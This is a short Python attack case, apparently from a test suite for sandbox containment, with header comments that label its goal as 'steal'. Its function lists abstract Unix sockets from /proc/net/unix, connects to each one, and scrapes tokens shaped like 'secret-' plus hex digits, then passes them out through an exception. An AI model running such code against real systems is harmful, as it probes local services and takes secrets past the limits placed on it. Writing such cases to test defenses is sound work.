# tries: Unix sockets with names but no files, which no rule about files covers
# fails: such names belong to the network namespace (or to what a Landlock domain may not reach)
# goal: steal
# stopped from: T1
# undefended: untried: what services on such sockets say
import re
import socket


def attack(*arguments, **keywords):
    try:
        with open("/proc/net/unix") as table:
            names = {line.split()[-1] for line in table if "@" in line}
    except OSError as error:
        names = {str(error)}
    found = []
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as line:
                line.settimeout(0.05)
                line.connect(name.replace("@", "\0", 1))
                line.sendall(b"who are you?\n")
                found += re.findall(rb"secret-[0-9a-f]{16}", line.recv(4096))
        except OSError as error:
            found.append(error)
    raise RuntimeError(f"found {found}")
